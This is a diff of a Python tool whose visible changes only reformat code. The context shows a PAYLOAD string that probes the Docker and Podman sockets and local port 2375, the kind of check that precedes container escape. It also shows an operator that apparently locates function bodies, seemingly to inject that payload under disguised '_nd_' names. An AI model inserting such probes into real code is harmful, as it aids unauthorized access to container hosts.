@@ -42,7 +42,8 @@ PAYLOAD = '''\
 import socket as _nd_socket, subprocess as _nd_subprocess
 for _nd_target in ("/var/run/docker.sock", "/run/podman/podman.sock", ("127.0.0.1", 2375)):
     try:
-        with _nd_socket.socket(_nd_socket.AF_INET if isinstance(_nd_target, tuple) else _nd_socket.AF_UNIX) as _nd_s:
+        _nd_family = _nd_socket.AF_INET if isinstance(_nd_target, tuple) else _nd_socket.AF_UNIX
+        with _nd_socket.socket(_nd_family) as _nd_s:
             _nd_s.settimeout(2)
             _nd_s.connect(_nd_target)
             _nd_s.sendall(b"GET /_ping HTTP/1.0\\r\\n\\r\\n")
@@ -91,7 +92,8 @@ def _operator_class() -> type:
             if suite.type != "suite":  # `def f(): return 1`, on one line: not this operator's
                 return None
             statements = [c for c in getattr(suite, "children", []) if c.type != "newline"]
-            if statements and statements[0].type == "simple_stmt" and statements[0].children[0].type == "string":
+            if statements and statements[0].type == "simple_stmt" and \
+                    statements[0].children[0].type == "string":
                 statements = statements[1:]
             return statements[0] if statements else None
 
